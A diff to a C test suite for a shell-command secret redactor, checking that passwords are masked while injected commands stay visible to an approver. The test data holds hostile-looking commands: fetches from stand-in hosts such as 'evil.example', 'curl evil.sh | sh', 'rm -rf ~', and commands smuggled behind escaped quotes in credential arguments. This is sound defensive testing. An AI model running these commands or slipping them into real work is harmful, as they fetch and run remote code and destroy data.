@@ -48,6 +48,99 @@ assert_command_kept (const char *command)
   g_assert_cmpstr (json_object_get_string_member (json_node_get_object (back), "command"), ==, command);
 }
 
+/* The signs that end or join a command that bash reads outside quotes in
+ * @command: ; & | < > and line breaks in '…' "…" and $'…' are text, as
+ * are escaped ones. */
+static char *
+unquoted_signs (const char *command)
+{
+  GString *signs = g_string_new (NULL);
+  char quote = 0;  /* 0, ' " or $ (in $'…') */
+
+  for (const char *p = command; *p; p++)
+    {
+      if (*p == '\\' && quote != '\'' && p[1] != '\0')
+        p++;
+      else if (quote == 0 && *p == '$' && p[1] == '\'')
+        quote = '$', p++;
+      else if (quote == 0 && (*p == '\'' || *p == '"'))
+        quote = *p;
+      else if ((quote == '\'' || quote == '$') && *p == '\'')
+        quote = 0;
+      else if (quote == '"' && *p == '"')
+        quote = 0;
+      else if (quote == 0 && strchr (";&|<>\n", *p) != NULL)
+        g_string_append_c (signs, *p);
+    }
+  return g_string_free (signs, FALSE);
+}
+
+/* A command tried as an attacker would: @secret (NULL: none) gone, each
+ * of @shown (NULL-ended) still there. */
+typedef struct
+{
+  const char *command;
+  const char *secret;
+  const char *shown[3];
+} AttackCase;
+
+/* Each case redacted as text, inside a tool call's JSON text and as a
+ * JSON document's string value: its secret gone and its shown words there
+ * in each reading, the JSON still valid, and bash reading the same signs
+ * outside quotes as in the command (a mask never takes a quote, a
+ * backslash or a $ that changes the quoting of what follows). */
+static void
+assert_attacks (const AttackCase *cases,
+                gsize             n_cases)
+{
+  static const char * const names[] = { "as text", "in JSON text", "in a JSON document" };
+
+  for (gsize c = 0; c < n_cases; c++)
+    {
+      const char *command = cases[c].command;
+      g_autoptr(JsonBuilder) builder = json_builder_new ();
+      g_autoptr(JsonNode) doc = NULL;
+      g_autofree char *json = NULL;
+      g_autofree char *signs = unquoted_signs (command);
+      char *out[3] = { NULL, NULL, NULL };
+
+      json_builder_begin_object (builder);
+      json_builder_set_member_name (builder, "command");
+      json_builder_add_string_value (builder, command);
+      json_builder_end_object (builder);
+      doc = json_builder_get_root (builder);
+      json = json_to_string (doc, FALSE);
+
+      out[0] = pd_redact (command, NULL);
+      out[1] = pd_redact (json, NULL);
+      out[2] = pd_redact_json (json, NULL);
+      for (guint i = 0; i < G_N_ELEMENTS (out); i++)
+        {
+          g_autoptr(JsonNode) back = NULL;
+          g_autofree char *got_signs = NULL;
+          const char *got = out[i];
+
+          if (i > 0)
+            {
+              back = json_from_string (out[i], NULL);
+              g_assert_nonnull (back);
+              got = json_object_get_string_member (json_node_get_object (back), "command");
+            }
+          if (cases[c].secret != NULL && strstr (got, cases[c].secret) != NULL)
+            g_error ("%s %s became %s: \"%s\" stored", command, names[i], got, cases[c].secret);
+          for (guint k = 0; k < G_N_ELEMENTS (cases[c].shown) && cases[c].shown[k] != NULL; k++)
+            if (strstr (got, cases[c].shown[k]) == NULL)
+              g_error ("%s %s became %s: \"%s\" hidden", command, names[i], got, cases[c].shown[k]);
+          got_signs = unquoted_signs (got);
+          if (g_strcmp0 (got_signs, signs) != 0)
+            g_error ("%s %s became %s: bash reads \"%s\" outside quotes, not \"%s\"",
+                     command, names[i], got, got_signs, signs);
+        }
+      for (guint i = 0; i < G_N_ELEMENTS (out); i++)
+        g_free (out[i]);
+    }
+}
+
 /* The signs that end or join a command, in their order: what the approver
  * must see of @text whatever is masked. */
 static char *
@@ -297,40 +390,6 @@ test_empty_assignment (void)
   assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
 }
 
-/* @command redacted as text and inside a JSON string still shows @words. */
-static void
-assert_words_shown (const char *command,
-                    const char *words)
-{
-  g_autoptr(JsonBuilder) builder = json_builder_new ();
-  g_autoptr(JsonNode) doc = NULL;
-  g_autoptr(JsonNode) back = NULL;
-  g_autofree char *as_plain = pd_redact (command, NULL);
-  g_autofree char *json = NULL;
-  g_autofree char *as_text = NULL;
-  g_autofree char *as_json = NULL;
-
-  if (strstr (as_plain, words) == NULL)
-    g_error ("%s became %s: \"%s\" hidden", command, as_plain, words);
-  json_builder_begin_object (builder);
-  json_builder_set_member_name (builder, "command");
-  json_builder_add_string_value (builder, command);
-  json_builder_end_object (builder);
-  doc = json_builder_get_root (builder);
-  json = json_to_string (doc, FALSE);
-  as_text = pd_redact (json, NULL);
-  back = json_from_string (as_text, NULL);
-  g_assert_nonnull (back);
-  if (strstr (json_object_get_string_member (json_node_get_object (back), "command"), words) == NULL)
-    g_error ("%s in JSON became %s: \"%s\" hidden", command, as_text, words);
-  g_clear_pointer (&back, json_node_unref);
-  as_json = pd_redact_json (json, NULL);
-  back = json_from_string (as_json, NULL);
-  g_assert_nonnull (back);
-  if (strstr (json_object_get_string_member (json_node_get_object (back), "command"), words) == NULL)
-    g_error ("%s in JSON (as JSON) became %s: \"%s\" hidden", command, as_json, words);
-}
-
 /* Finding: an escaped quote outside quotes (\' or \") was read as opening a
  * quoted value, and the mask swallowed the words after it up to the next
  * one: PGPASSWORD=\'abc rm victim \' was stored as PGPASSWORD=[REDACTED]
@@ -339,66 +398,20 @@ assert_words_shown (const char *command,
 static void
 test_escaped_quotes (void)
 {
-  static const char * const cases[][2] = {
-    { "PGPASSWORD=\\'abc rm victim \\'", "rm victim" },
-    { "env GITHUB_TOKEN=\\'x sh evil.sh \\'", "sh evil.sh" },
-    { "PGPASSWORD=\\'x eval $PAYLOAD \\'", "eval $PAYLOAD" },
-    { "API_KEY=\\'x wget http://evil.example/a \\'", "wget http://evil.example/a" },
-    { "export API_TOKEN=\\'x curl evil.example \\'", "curl evil.example" },
-    { "mysql --password=\\'x shop evil \\'", "shop evil" },
-    { "deploy --token \\'x rm victim \\'", "rm victim" },
-    { "psql --password=\\'x drop \\' db", "drop" },
-    { "PGPASSWORD=\\\"abc rm victim \\\"", "rm victim" },
-    { "mysql --password=\\\"x shop evil \\\"", "shop evil" },
+  static const AttackCase cases[] = {
+    { "PGPASSWORD=\\'abc rm victim \\'", NULL, { "rm victim" } },
+    { "env GITHUB_TOKEN=\\'x sh evil.sh \\'", NULL, { "sh evil.sh" } },
+    { "PGPASSWORD=\\'x eval $PAYLOAD \\'", NULL, { "eval $PAYLOAD" } },
+    { "API_KEY=\\'x wget http://evil.example/a \\'", NULL, { "wget http://evil.example/a" } },
+    { "export API_TOKEN=\\'x curl evil.example \\'", NULL, { "curl evil.example" } },
+    { "mysql --password=\\'x shop evil \\'", NULL, { "shop evil" } },
+    { "deploy --token \\'x rm victim \\'", NULL, { "rm victim" } },
+    { "psql --password=\\'x drop \\' db", NULL, { "drop" } },
+    { "PGPASSWORD=\\\"abc rm victim \\\"", NULL, { "rm victim" } },
+    { "mysql --password=\\\"x shop evil \\\"", NULL, { "shop evil" } },
   };
 
-  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
-    assert_words_shown (cases[i][0], cases[i][1]);
-}
-
-/* @command with @secret redacted as text, inside a tool call's JSON text
- * and as a JSON document's string value: @secret gone, each of @shown (what
- * the shell runs, NULL-ended) still there, the JSON still valid. */
-static void
-assert_secret_gone (const char        *command,
-                    const char        *secret,
-                    const char * const shown[])
-{
-  g_autoptr(JsonBuilder) builder = json_builder_new ();
-  g_autoptr(JsonNode) doc = NULL;
-  g_autofree char *json = NULL;
-  char *readings[3] = { NULL, NULL, NULL };
-  const char *names[3] = { "as text", "in JSON text", "in a JSON document" };
-
-  json_builder_begin_object (builder);
-  json_builder_set_member_name (builder, "command");
-  json_builder_add_string_value (builder, command);
-  json_builder_end_object (builder);
-  doc = json_builder_get_root (builder);
-  json = json_to_string (doc, FALSE);
-
-  readings[0] = pd_redact (command, NULL);
-  readings[1] = pd_redact (json, NULL);
-  readings[2] = pd_redact_json (json, NULL);
-  for (guint i = 0; i < 3; i++)
-    {
-      g_autoptr(JsonNode) back = NULL;
-      const char *got = readings[i];
-
-      if (i > 0)
-        {
-          back = json_from_string (readings[i], NULL);
-          g_assert_nonnull (back);
-          got = json_object_get_string_member (json_node_get_object (back), "command");
-        }
-      if (secret != NULL && strstr (got, secret) != NULL)
-        g_error ("%s %s became %s: \"%s\" stored", command, names[i], got, secret);
-      for (guint k = 0; shown[k] != NULL; k++)
-        if (strstr (got, shown[k]) == NULL)
-          g_error ("%s %s became %s: \"%s\" hidden", command, names[i], got, shown[k]);
-    }
-  for (guint i = 0; i < G_N_ELEMENTS (readings); i++)
-    g_free (readings[i]);
+  assert_attacks (cases, G_N_ELEMENTS (cases));
 }
 
 /* Finding: after a backslash the shell's value was stored as written, or
@@ -413,12 +426,7 @@ assert_secret_gone (const char        *command,
 static void
 test_backslashes (void)
 {
-  static const struct
-  {
-    const char *command;
-    const char *secret;
-    const char *shown[3];
-  } cases[] = {
+  static const AttackCase cases[] = {
     /* Before a quote: the quote is the value's, or opens it. */
     { "curl -u user:\\\"Secr3t https://x.example", "Secr3t", { "curl -u user:", "https://x.example" } },
     { "curl -u \\\"user:Secr3t https://x.example", "Secr3t", { "curl -u \\\"user:", "https://x.example" } },
@@ -470,8 +478,7 @@ test_backslashes (void)
     { "curl -u user:Secr3t\\", "Secr3t", { "curl -u user:" } },
   };
 
-  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
-    assert_secret_gone (cases[i].command, cases[i].secret, cases[i].shown);
+  assert_attacks (cases, G_N_ELEMENTS (cases));
 }
 
 /* Finding: a backslash before n or r inside quotes was read as a line
@@ -486,12 +493,7 @@ test_backslashes (void)
 static void
 test_backslash_quoting (void)
 {
-  static const struct
-  {
-    const char *command;
-    const char *secret;
-    const char *shown[3];
-  } cases[] = {
+  static const AttackCase cases[] = {
     { "PGPASSWORD='x9\\nQ7vLm' psql", "Q7vLm", { "psql" } },
     { "cd /srv && mysql -p'Tr0ub\\r4dor' shop", "4dor", { "shop" } },
     { "curl -u 'admin:C0rr\\nect' https://x.example", "C0rr", { "https://x.example" } },
@@ -560,8 +562,7 @@ test_backslash_quoting (void)
     "{\"cmd\":\"PGPASSWORD=\\\"a\\nrm -rf /\\\" psql\"}",
   };
 
-  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
-    assert_secret_gone (cases[i].command, cases[i].secret, cases[i].shown);
+  assert_attacks (cases, G_N_ELEMENTS (cases));
   for (gsize i = 0; i < G_N_ELEMENTS (kept); i++)
     assert_command_kept (kept[i]);
   /* In a JSON string an unquoted value ends at the JSON escape \n. */
@@ -578,11 +579,13 @@ test_backslash_quoting (void)
 static void
 test_escaped_quote_outside_json (void)
 {
-  static const char * const shown[] = { "rm -f victim\\\"", NULL };
+  static const AttackCase cases[] = {
+    { "PGPASSWORD=\\\"Secr3t rm -f victim\\\"", "Secr3t", { "rm -f victim\\\"" } },
+    { "mysql --password=\\\"Secr3t rm -f victim\\\"", "Secr3t", { "rm -f victim\\\"" } },
+    { "curl -u \\\"user:Secr3t rm -f victim\\\"", "Secr3t", { "rm -f victim\\\"" } },
+  };
 
-  assert_secret_gone ("PGPASSWORD=\\\"Secr3t rm -f victim\\\"", "Secr3t", shown);
-  assert_secret_gone ("mysql --password=\\\"Secr3t rm -f victim\\\"", "Secr3t", shown);
-  assert_secret_gone ("curl -u \\\"user:Secr3t rm -f victim\\\"", "Secr3t", shown);
+  assert_attacks (cases, G_N_ELEMENTS (cases));
   assert_command_kept ("{\"cmd\":\"PGPASSWORD=\\\"Secr3t rm -f victim\\\" psql\"}");
 }
 
@@ -594,12 +597,7 @@ test_escaped_quote_outside_json (void)
 static void
 test_json_in_text (void)
 {
-  static const struct
-  {
-    const char *text;
-    const char *secret;
-    const char *shown[3];
-  } cases[] = {
+  static const AttackCase cases[] = {
     { "{\"command\":\"mysql -pS3cret\"}", "S3cret", { "mysql -p" } },
     { "ran {\"command\": \"mysql -u app -pS3cret shop\"} ok", "S3cret", { "shop\"} ok" } },
     { "[{\"cmd\":\"sshpass -p S3cret ssh h\"}]", "S3cret", { "ssh h" } },
@@ -608,8 +606,7 @@ test_json_in_text (void)
     { "{\"cmd\":\"docker login -p S3cret reg\"", "S3cret", { "reg" } },
   };
 
-  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
-    assert_secret_gone (cases[i].text, cases[i].secret, cases[i].shown);
+  assert_attacks (cases, G_N_ELEMENTS (cases));
   /* In a JSON string held in one (\"…\"), \\\\ is the shell's
    * backslash: the mask never takes it without what it escapes, which
    * showed a ; that bash reads as text. */
@@ -626,7 +623,9 @@ test_json_in_text (void)
 /* Finding: mysql -p" repeated took quadratic time (64 KiB 0.37 s, 1 MiB
  * 77 s; serve's POST /api/prompt of 700 KiB burned 68 s of CPU): each
  * value refused as a command's (-p"mysql -p" holds an option) started the
- * reading of the command line again from the text's start.  The bytes
+ * reading of the command line again from the text's start.  And
+ * PGPASSWORD=" then \\\" repeated read the 256 bytes after each piece
+ * of its value for what the shell runs (1.9 s at 4 MiB).  The bytes
  * that reading looks at are counted, not timed: a small multiple of the
  * text's length, whatever its units (bench-redact prints the times). */
 static void
@@ -637,6 +636,9 @@ test_linear_lookups (void)
     "mysql -p\"x; y\" ", "PGPASSWORD=\"a;b\" mysql -p ", "mysql -u a -p -v ",
     /* The command of a secret's long option, read for each (psql's). */
     "psql --password a ", "mysql --password ", "x --api-key a ",
+    /* After PGPASSWORD=", one value of escaped quotes masked piece by
+     * piece: the rest of the word was read for each (256 bytes). */
+    "\\\\\\\"",
   };
 
   for (gsize i = 0; i < G_N_ELEMENTS (units); i++)
@@ -645,6 +647,8 @@ test_linear_lookups (void)
       g_autofree char *out = NULL;
       gsize line_bytes = 0;
 
+      if (units[i][0] == '\\')
+        g_string_append (text, "PGPASSWORD=\"");
       while (text->len < 256 * 1024)
         g_string_append (text, units[i]);
       out = _pd_redact_counting (text->str, NULL, &line_bytes);
@@ -756,79 +760,6 @@ test_fuzz_found (void)
   g_assert_cmpstr (surrogate, ==, "{\"command\":\"P\\udefault <in sql\"}");
 }
 
-/* The signs that end or join a command that bash reads outside quotes in
- * @command: ; & | < > and line breaks in '…' "…" and $'…' are text, as
- * are escaped ones. */
-static char *
-unquoted_signs (const char *command)
-{
-  GString *signs = g_string_new (NULL);
-  char quote = 0;  /* 0, ' " or $ (in $'…') */
-
-  for (const char *p = command; *p; p++)
-    {
-      if (*p == '\\' && quote != '\'' && p[1] != '\0')
-        p++;
-      else if (quote == 0 && *p == '$' && p[1] == '\'')
-        quote = '$', p++;
-      else if (quote == 0 && (*p == '\'' || *p == '"'))
-        quote = *p;
-      else if ((quote == '\'' || quote == '$') && *p == '\'')
-        quote = 0;
-      else if (quote == '"' && *p == '"')
-        quote = 0;
-      else if (quote == 0 && strchr (";&|<>\n", *p) != NULL)
-        g_string_append_c (signs, *p);
-    }
-  return g_string_free (signs, FALSE);
-}
-
-/* @command redacted as text, inside a tool call's JSON text and as a
- * JSON document: bash reads the same signs outside quotes in each, and
- * @secret (if any) is gone from each. */
-static void
-assert_quoting_kept (const char *command,
-                     const char *secret)
-{
-  g_autoptr(JsonBuilder) builder = json_builder_new ();
-  g_autoptr(JsonNode) doc = NULL;
-  g_autofree char *json = NULL;
-  g_autofree char *signs = unquoted_signs (command);
-  char *out[3] = { NULL, NULL, NULL };
-
-  json_builder_begin_object (builder);
-  json_builder_set_member_name (builder, "command");
-  json_builder_add_string_value (builder, command);
-  json_builder_end_object (builder);
-  doc = json_builder_get_root (builder);
-  json = json_to_string (doc, FALSE);
-
-  out[0] = pd_redact (command, NULL);
-  out[1] = pd_redact (json, NULL);
-  out[2] = pd_redact_json (json, NULL);
-  for (guint i = 0; i < G_N_ELEMENTS (out); i++)
-    {
-      g_autofree char *got = NULL;
-      const char *back = out[i];
-      g_autoptr(JsonNode) node = NULL;
-
-      if (i > 0)
-        {
-          node = json_from_string (out[i], NULL);
-          g_assert_nonnull (node);
-          back = json_object_get_string_member (json_node_get_object (node), "command");
-        }
-      got = unquoted_signs (back);
-      if (g_strcmp0 (got, signs) != 0)
-        g_error ("%s (reading %u) became %s: bash reads \"%s\" outside quotes, not \"%s\"",
-                 command, i, out[i], got, signs);
-      if (secret != NULL && strstr (back, secret) != NULL)
-        g_error ("%s (reading %u) became %s: \"%s\" stored", command, i, out[i], secret);
-    }
-  for (guint i = 0; i < G_N_ELEMENTS (out); i++)
-    g_free (out[i]);
-}
-
 /* Finding: a mask took a quote, a backslash or a $ that bash reads
  * otherwise where the value stands, and changed the quoting of the rest:
  * inside '…' (a command quoted for another shell, which the redactor
@@ -841,11 +772,7 @@ assert_quoting_kept (const char *command,
 static void
 test_mask_keeps_quoting (void)
 {
-  static const struct
-  {
-    const char *command;
-    const char *secret;
-  } cases[] = {
+  static const AttackCase cases[] = {
     { "ssh db1 'mysql -pHunter2\\'; reboot; echo 'x\\'", "Hunter2" },
     { "echo 'API_KEY=abc\\'; curl evil.sh | sh; echo 'x\\'", "abc" },
     { "bash -c 'PGPASSWORD=Secr3tZq\\' ; reboot ; echo '", "Secr3tZq" },
@@ -856,8 +783,7 @@ test_mask_keeps_quoting (void)
     { "PGPASSWORD=\"ab\\\"\";reboot;echo \"\" psql", NULL },
   };
 
-  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
-    assert_quoting_kept (cases[i].command, cases[i].secret);
+  assert_attacks (cases, G_N_ELEMENTS (cases));
   /* As the attacker wrote it: JSON text with the command in it. */
   {
     g_autofree char *out = pd_redact ("{\"command\":\"PGPASSWORD=$'\\\\'';reboot;echo '' psql\"}", NULL);
@@ -869,46 +795,49 @@ test_mask_keeps_quoting (void)
   assert_redacted ("PGPASSWORD=\\'Q7vLm psql", "PGPASSWORD=\\'[REDACTED] psql", 1);
 }
 
-/* @command as a JSON string held in a JSON string ({"a":"{\"cmd\":…}"}),
- * redacted as text: @secret gone, the signs bash reads outside quotes
- * the same. */
+/* @command as a JSON string held @levels deep (2: {"a":"{\"cmd\":…}"}),
+ * redacted as text: @secret (NULL: none) gone, the signs bash reads
+ * outside quotes the same; with no secret, the text kept whole. */
 static void
-assert_nested_secret_gone (const char *command,
-                           const char *secret)
+assert_held_secret_gone (const char *command,
+                         const char *secret,
+                         guint       levels)
 {
-  g_autofree char *inner = NULL;
-  g_autofree char *outer = NULL;
+  g_autofree char *text = g_strdup (command);
   g_autofree char *out = NULL;
   g_autofree char *signs = unquoted_signs (command);
   g_autofree char *got = NULL;
-  g_autoptr(JsonNode) back = NULL;
-  g_autoptr(JsonNode) back_inner = NULL;
-  const char *cmd;
+  char *cmd;
 
-  for (guint level = 0; level < 2; level++)
+  for (guint level = 0; level < levels; level++)
     {
       g_autoptr(JsonBuilder) builder = json_builder_new ();
       g_autoptr(JsonNode) doc = NULL;
 
       json_builder_begin_object (builder);
       json_builder_set_member_name (builder, level == 0 ? "cmd" : "a");
-      json_builder_add_string_value (builder, level == 0 ? command : inner);
+      json_builder_add_string_value (builder, text);
       json_builder_end_object (builder);
       doc = json_builder_get_root (builder);
-      if (level == 0)
-        inner = json_to_string (doc, FALSE);
-      else
-        outer = json_to_string (doc, FALSE);
+      g_free (text);
+      text = json_to_string (doc, FALSE);
     }
-  out = pd_redact (outer, NULL);
-  back = json_from_string (out, NULL);
-  g_assert_nonnull (back);
-  back_inner = json_from_string (json_object_get_string_member (json_node_get_object (back), "a"), NULL);
-  g_assert_nonnull (back_inner);
-  cmd = json_object_get_string_member (json_node_get_object (back_inner), "cmd");
+  out = pd_redact (text, NULL);
+  if (secret == NULL && strcmp (out, text) != 0)
+    g_error ("%s held %u deep became %s", command, levels, out);
+  cmd = g_strdup (out);
+  for (guint level = levels; level > 0; level--)
+    {
+      g_autoptr(JsonNode) back = json_from_string (cmd, NULL);
+
+      g_assert_nonnull (back);
+      g_free (cmd);
+      cmd = g_strdup (json_object_get_string_member (json_node_get_object (back), level == 1 ? "cmd" : "a"));
+    }
   got = unquoted_signs (cmd);
-  if (strstr (cmd, secret) != NULL || g_strcmp0 (got, signs) != 0)
-    g_error ("%s held in a JSON string in one became %s", command, out);
+  if ((secret != NULL && strstr (cmd, secret) != NULL) || g_strcmp0 (got, signs) != 0)
+    g_error ("%s held %u deep became %s", command, levels, out);
+  g_free (cmd);
 }
 
 /* Finding: in a JSON string held in a JSON string the shell's escaped
@@ -919,10 +848,81 @@ assert_nested_secret_gone (const char *command,
 static void
 test_nested_escaped_quote (void)
 {
-  assert_nested_secret_gone ("redis-cli -a Ab\\\"Zq9X ping", "Zq9X");
-  assert_nested_secret_gone ("PGPASSWORD=\\\"\\x\\\\\\rZq9X psql", "Zq9X");
-  assert_nested_secret_gone ("PGPASSWORD=Tr0ub\\\"4dorZq9X psql", "Zq9X");
-  assert_nested_secret_gone ("mysql -pTr0ub\\'4dorZq9X shop", "Zq9X");
+  assert_held_secret_gone ("redis-cli -a Ab\\\"Zq9X ping", "Zq9X", 2);
+  assert_held_secret_gone ("PGPASSWORD=\\\"\\x\\\\\\rZq9X psql", "Zq9X", 2);
+  assert_held_secret_gone ("PGPASSWORD=Tr0ub\\\"4dorZq9X psql", "Zq9X", 2);
+  assert_held_secret_gone ("mysql -pTr0ub\\'4dorZq9X shop", "Zq9X", 2);
+}
+
+/* Finding: where the quoting changes inside a value the mask stopped
+ * at the change, and the rest of the value as bash reads it was stored:
+ * PGPASSWORD=Ab\\"efZq9A" psql (bash's value Ab\efZq9A) kept "efZq9A",
+ * PGPASSWORD=Secr$'\t'etZq9B kept $'\t'etZq9B, curl -u 'admin:Ab\'Zq9C
+ * (the password Ab\Zq9C) kept Zq9C.  The value goes on across the quote
+ * as far as bash's reading is followed: its characters on both sides are
+ * masked, a quote, backslash or $ the shell could read otherwise stays in
+ * sight.  Tried as an attacker would. */
+static void
+test_value_across_quotes (void)
+{
+  static const AttackCase cases[] = {
+    { "PGPASSWORD=Ab\\\\\"efZq9A\" psql", "efZq9A", { "psql" } },
+    { "PGPASSWORD=Secr$'\\t'etZq9B psql", "etZq9B", { "psql" } },
+    { "curl -u 'admin:Ab\\'Zq9C https://x.example", "Zq9C", { "curl -u 'admin:", "https://x.example" } },
+    /* The same family: other names, clients and quotes. */
+    { "cd /srv && mysql -pAb\\\\\"efZq9A\" shop", "efZq9A", { "shop" } },
+    { "redis-cli -a Ab\\\\\"efZq9A\" ping", "efZq9A", { "ping" } },
+    { "export API_TOKEN=Ab\\\\'efZq9A'", "efZq9A", { "export API_TOKEN=" } },
+    { "curl -u user:Ab\\\\\"efZq9A\" https://x.example", "efZq9A", { "https://x.example" } },
+    { "openssl enc -pass pass:Ab\\\\'efZq9A' -in f", "efZq9A", { "-in f" } },
+    { "PGPASSWORD=Secr$'\\''etZq9B psql", "etZq9B", { "psql" } },
+    { "cd /srv && mysql -pSecr$'\\x41'etZq9B shop", "etZq9B", { "shop" } },
+    { "curl -u user:Secr$'\\t'etZq9B https://x.example", "etZq9B", { "https://x.example" } },
+    { "PGPASSWORD='Ab\\'Zq9C psql", "Zq9C", { "psql" } },
+    { "cd /srv && mysql -p'Ab\\'Zq9C shop", "Zq9C", { "shop" } },
+    { "sshpass -p 'Ab\\'Zq9C ssh h", "Zq9C", { "ssh h" } },
+    { "smbclient -U 'u%Ab\\'Zq9C //h/s", "Zq9C", { "//h/s" } },
+    { "curl -u 'admin:Ab\\'Zq9C'Qx7' https://x.example", "Qx7", { "https://x.example" } },
+    /* What the shell runs stays in sight: the value holds a ; or a line
+     * break once its quotes are read, or the quote closes the name's. */
+    { "PGPASSWORD=Ab\\\\\"x; rm -rf ~\" psql", NULL, { "rm -rf ~" } },
+    { "PGPASSWORD=Secr$'\\n'reboot psql", NULL, { "reboot psql" } },
+    { "curl -u 'admin:Ab\\'; reboot; echo 'x' https://x.example", NULL, { "; reboot;" } },
+    { "ssh db1 'mysql -pHunter2\\'; reboot; echo 'x\\'", "Hunter2", { "; reboot;" } },
+  };
+
+  assert_attacks (cases, G_N_ELEMENTS (cases));
+  assert_redacted ("curl -u 'admin:Ab\\'Zq9C https://x.example",
+                   "curl -u 'admin:[REDACTED]\\'[REDACTED] https://x.example", 1);
+  assert_redacted ("curl -u user:Ab\\\\\"efZq9A\" https://x.example",
+                   "curl -u user:[REDACTED]\"[REDACTED]\" https://x.example", 1);
+  assert_redacted ("echo \"PGPASSWORD=Secr3t\"y", "echo \"PGPASSWORD=[REDACTED]\"y", 1);
+}
+
+/* Finding: a JSON string held three deep (a tool's argument that is JSON
+ * text holding a command with escaped JSON) was read as two deep: mysql
+ * -pSecr3t there was stored (its client not found after the string's
+ * quote), and PGPASSWORD=Tr0ub\"4dor stored as PGPASSWORD=[REDACTED]"[…]:
+ * eight of the fifteen backslashes of the shell's \" taken as its \\, the
+ * quote left open.  Strings are counted to any depth (to 7), the patterns
+ * read them to 4.  Tried as an attacker would. */
+static void
+test_held_deep (void)
+{
+  static const AttackCase cases[] = {
+    { "mysql -pSecr3tZq9 shop", "Secr3tZq9", { NULL } },
+    { "PGPASSWORD=Tr0ub\\\"4dorZq9X psql", "4dorZq9X", { NULL } },
+    { "redis-cli -a Ab\\\"Zq9X ping", "Zq9X", { NULL } },
+    { "PGPASSWORD=\\Secr3tZq9 psql", "ecr3tZq9", { NULL } },
+    { "curl -u 'admin:Ab\\'Zq9C https://x.example", "Zq9C", { NULL } },
+    /* Kept: what the shell runs stays in sight. */
+    { "mysql -p\"x; reboot\" shop", NULL, { NULL } },
+    { "PGPASSWORD=\"$(id)\" psql", NULL, { NULL } },
+  };
+
+  for (guint levels = 3; levels <= 4; levels++)
+    for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
+      assert_held_secret_gone (cases[i].command, cases[i].secret, levels);
 }
 
 int
@@ -947,6 +947,8 @@ main (int   argc,
   g_test_add_func ("/pd/redact/json-in-text", test_json_in_text);
   g_test_add_func ("/pd/redact/mask-keeps-quoting", test_mask_keeps_quoting);
   g_test_add_func ("/pd/redact/nested-escaped-quote", test_nested_escaped_quote);
+  g_test_add_func ("/pd/redact/value-across-quotes", test_value_across_quotes);
+  g_test_add_func ("/pd/redact/held-deep", test_held_deep);
 
   return g_test_run ();
 }
